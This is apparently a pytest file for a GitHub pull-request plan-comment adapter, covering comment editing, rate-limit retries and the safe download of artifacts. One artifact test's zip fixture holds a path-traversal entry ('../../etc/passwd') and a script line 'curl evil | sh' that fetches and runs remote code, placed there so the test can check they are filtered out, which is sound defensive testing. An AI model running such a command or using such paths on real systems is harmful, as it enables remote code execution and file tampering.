"""The plan comment through PyGithub against GitHub's REST API (faked with `responses`)."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
import responses

from controller.adapters.github_api import (
    GitHubApiError,
    GitHubNotFoundError,
    RetryingCaller,
    RetryPolicy,
    make_github,
)
from controller.adapters.github_comments import (
    PullRequestComments,
    comment_author,
    download_artifact,
    find_pull_request,
)
from controller.core.comments import (
    COMMENT_LIMIT,
    MARKER,
    RenderContext,
    continuation_marker,
    render_comment,
)
from tests.github_fake import BLOB, BOT, FakeGitHub, fixture
from tests.test_comments import network_plan, scale_plan


@pytest.fixture
def github():
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        yield FakeGitHub(mock), mock


def publisher(sleeps=None, **policy):
    caller = RetryingCaller(
        policy=RetryPolicy(**policy),
        sleep=(sleeps.append if sleeps is not None else lambda s: None),
        now=lambda: 1_000.0,
        jitter=lambda: 1.0,
    )
    return PullRequestComments(make_github("token", throttle=False), "acme/infra", caller=caller)


def body(text, part=1, run="-"):
    marker = MARKER if part == 1 else continuation_marker(part)
    return f"{marker}\n<!-- cloud:plan head=- run={run} -->\n{text}"


def test_the_first_run_creates_the_comment_and_the_second_edits_it(github):
    fake, _ = github
    fake.add_comment("a human's review")
    urls = publisher().publish(7, [body("plan v1")])
    assert fake.bodies() == ["a human's review", body("plan v1")]
    assert urls == [f"https://github.com/acme/infra/pull/7#issuecomment-{fake.next_id}"]
    publisher().publish(7, [body("plan v2")])
    assert fake.bodies() == ["a human's review", body("plan v2")]
    assert [method for method, _ in fake.requests].count("POST") == 1


def test_the_marker_is_found_on_any_page(github):
    fake, _ = github
    for index in range(150):
        fake.add_comment(f"chatter {index}")
    ours = fake.add_comment(body("old plan"))
    publisher().publish(7, [body("new plan")])
    assert fake.comments[ours]["body"] == body("new plan")
    assert len(fake.comments) == 151
    assert any("page=2" in url for method, url in fake.requests if method == "GET")


def test_an_unchanged_plan_is_not_edited_again(github):
    fake, _ = github
    fake.add_comment(body("same"))
    publisher().publish(7, [body("same")])
    assert [method for method, _ in fake.requests] == ["GET"]


def test_continuations_are_created_updated_and_removed_with_the_plan(github):
    fake, _ = github
    publisher().publish(7, [body("one"), body("two", 2), body("three", 3)])
    assert fake.bodies() == [body("one"), body("two", 2), body("three", 3)]
    publisher().publish(7, [body("one'"), body("two'", 2)])
    assert fake.bodies() == [body("one'"), body("two'", 2)]


def test_a_rate_limit_with_retry_after_is_waited_out(github):
    fake, _ = github
    fake.fail_next = [(403, {"Retry-After": "7"}, "You have exceeded a secondary rate limit")]
    sleeps = []
    publisher(sleeps).publish(7, [body("plan")])
    assert sleeps == [7.0]
    assert fake.bodies() == [body("plan")]


def test_a_persistent_rate_limit_is_reported_clearly(github):
    fake, _ = github
    fake.fail_next = [(403, {"Retry-After": "30"}, "secondary rate limit")] * 3
    sleeps = []
    with pytest.raises(GitHubApiError) as caught:
        publisher(sleeps, max_attempts=3).publish(7, [body("plan")])
    assert sleeps == [30.0, 30.0]
    message = str(caught.value)
    assert "gave up after 3 attempt(s) and 60s of waiting" in message
    assert "403" in message and "secondary rate limit" in message


def test_an_exhausted_primary_limit_waits_until_the_reset(github):
    fake, _ = github
    fake.fail_next = [
        (
            403,
            {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "1042"},
            "API rate limit exceeded",
        )
    ]
    sleeps = []
    publisher(sleeps).publish(7, [body("plan")])
    assert sleeps == [43.0]


def test_a_secondary_limit_without_a_hint_waits_a_minute_then_backs_off(github):
    fake, _ = github
    fake.fail_next = [(403, {}, "You have exceeded a secondary rate limit")] * 2
    sleeps = []
    publisher(sleeps).publish(7, [body("plan")])
    assert sleeps == [60.0, 120.0]


def test_server_errors_are_retried_with_capped_backoff(github):
    fake, _ = github
    fake.fail_next = [(502, {}, "Bad Gateway")] * 3
    sleeps = []
    publisher(sleeps, max_backoff=3.0).publish(7, [body("plan")])
    assert sleeps == [1.0, 2.0, 3.0]


def test_a_create_that_failed_after_github_stored_it_is_not_repeated(github):
    fake, _ = github
    fake.fail_after_storing = 1
    publisher().publish(7, [body("plan")])
    assert fake.bodies() == [body("plan")]
    assert [method for method, _ in fake.requests].count("POST") == 1


def test_a_pull_request_that_is_gone_is_reported_as_not_found(github):
    fake, _ = github
    fake.fail_next = [(404, {}, "Not Found")]
    with pytest.raises(GitHubNotFoundError, match="not found on GitHub"):
        publisher().publish(7, [body("plan")])


def test_a_plain_403_is_not_retried(github):
    fake, _ = github
    fake.fail_next = [(403, {}, "Resource not accessible by integration")]
    sleeps = []
    with pytest.raises(GitHubApiError, match="Resource not accessible by integration"):
        publisher(sleeps).publish(7, [body("plan")])
    assert sleeps == []


def test_an_oversized_plan_is_published_as_at_most_three_comments(github):
    fake, _ = github
    bodies = render_comment(scale_plan(), context=RenderContext(run_url="https://x/run/1"))
    assert 1 < len(bodies) <= 3
    publisher().publish(7, bodies)
    assert fake.bodies() == bodies
    assert all(len(text) <= COMMENT_LIMIT for text in fake.bodies())
    assert fake.bodies()[0].startswith(MARKER)
    assert fake.bodies()[1].startswith(continuation_marker(2))
    publisher().publish(7, bodies)
    assert fake.bodies() == bodies  # the same comments, not more
    shorter = render_comment(network_plan())
    publisher().publish(7, shorter)
    assert fake.bodies() == shorter  # the continuations it no longer needs are deleted


def test_more_than_three_comments_are_refused_before_anything_is_posted(github):
    fake, _ = github
    with pytest.raises(ValueError, match="1 to 3 comments"):
        publisher().publish(7, [body("a"), body("b", 2), body("c", 3), body("d", 4)])
    assert fake.requests == []


def test_stale_continuations_of_any_number_are_deleted(github):
    fake, _ = github
    for part in range(1, 106):  # 105 parts, as an old version left them
        fake.add_comment(body(f"old part {part}", part))
    fake.add_comment(body("a duplicate left by a race"))
    publisher().publish(7, [body("plan")])
    assert fake.bodies() == [body("plan")]


def test_a_users_comment_that_starts_with_the_marker_is_not_ours(github):
    fake, _ = github
    quote = fake.add_comment(body("as the bot said"), login="octocat")
    continued = fake.add_comment(body("my notes", 2), login="octocat")
    publisher().publish(7, [body("plan")])
    assert fake.comments[quote]["body"] == body("as the bot said")
    assert continued in fake.comments
    assert fake.authors() == ["octocat", "octocat", BOT]
    assert fake.writes() == ["POST"]


def test_ours_means_the_tokens_own_login_when_it_has_one(github):
    fake, _ = github
    fake.token_login = "infra-bot"
    fake.add_comment(body("by the actions bot"))  # not this token's: left alone
    client = make_github("token", throttle=False)
    author = comment_author(client)
    assert author == "infra-bot"
    PullRequestComments(client, "acme/infra", author).publish(7, [body("plan")])
    assert fake.authors() == [BOT, "infra-bot"]


def test_the_default_token_is_the_actions_bot_and_an_app_says_who_it_is(github):
    _fake, _ = github
    client = make_github("token", throttle=False)
    assert comment_author(client) == BOT  # GET /user is a 403 for GITHUB_TOKEN
    assert comment_author(client, "my-app[bot]") == "my-app[bot]"


def test_a_later_runs_plan_is_never_replaced_by_an_earlier_run(github):
    fake, _ = github
    fake.add_comment(body("plan of run 12", run="12"))
    assert publisher().publish(7, [body("plan of run 11", run="11")], run_id=11) is None
    assert fake.bodies() == [body("plan of run 12", run="12")]
    publisher().publish(7, [body("plan of run 13", run="13")], run_id=13)
    assert fake.bodies() == [body("plan of run 13", run="13")]


def test_a_plan_of_an_older_head_is_marked_outdated_and_a_users_quote_is_not(github):
    fake, _ = github
    old_head = "a" * 40
    ours = fake.add_comment(render_comment(network_plan() | {"head": old_head})[0])
    theirs = fake.add_comment(render_comment(network_plan() | {"head": old_head})[0], "octocat")
    before = fake.comments[theirs]["body"]
    assert publisher().mark_outdated(7, head="b" * 40, run_url=None) == 1
    assert "**Outdated**" in fake.comments[ours]["body"]
    assert fake.comments[theirs]["body"] == before
    assert publisher().mark_outdated(7, head=old_head, run_url=None) == 0


# --- what the relay reads --------------------------------------------------------------------


def test_the_pull_request_of_a_fork_run_is_found_by_its_head(github):
    fake, _ = github
    fake.add_fork_pull(head="c" * 40, base="d" * 40)
    client = make_github("token", throttle=False)
    found = find_pull_request(
        client, "acme/infra", head_repository="outsider/infra", branch="tag-owner", sha="c" * 40
    )
    assert found is not None and (found.number, found.sha) == (7, "c" * 40)
    assert (
        find_pull_request(
            client, "acme/infra", head_repository="someone/infra", branch="tag-owner", sha="c" * 40
        )
        is None
    )


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_an_artifact_is_read_in_memory_taking_only_the_files_asked_for(github):
    fake, _ = github
    event = fixture("workflow_run_fork_pr.json", head="c" * 40)
    data = zipped(
        {
            "plan.json": b"{}",
            "failed-plan.json": b'{"step": "plan"}',
            "../../etc/passwd": b"x",
            "nested/plan.json": b"x",
            "run.sh": b"curl evil | sh",
        }
    )
    fake.add_run(event, {"cloud-plan": data, "other": zipped({"plan.json": b"[]"})})
    client = make_github("token", throttle=False)
    found = download_artifact(
        client,
        "acme/infra",
        token="t",
        run_id=9200000007,
        name="cloud-plan",
        files=["plan.json", "failed-*"],
    )
    assert found is not None
    files, artifact_id = found
    assert files == {"plan.json": b"{}", "failed-plan.json": b'{"step": "plan"}'}
    assert artifact_id == "92000000070"
    blob = [url for method, url in fake.requests if url.startswith(BLOB)]
    assert len(blob) == 1  # fetched without the token (the fake refuses it otherwise)


def test_an_oversized_artifact_is_refused(github):
    fake, _ = github
    event = fixture("workflow_run_fork_pr.json", head="c" * 40)
    fake.add_run(event, {"cloud-plan": zipped({"plan.json": json.dumps(["x" * 5000]).encode()})})
    client = make_github("token", throttle=False)
    with pytest.raises(GitHubApiError, match="larger than"):
        download_artifact(
            client,
            "acme/infra",
            token="t",
            run_id=9200000007,
            name="cloud-plan",
            files=["plan.json"],
            limit=1000,
        )
    assert (
        download_artifact(
            client, "acme/infra", token="t", run_id=9200000007, name="missing", files=["plan.json"]
        )
        is None
    )
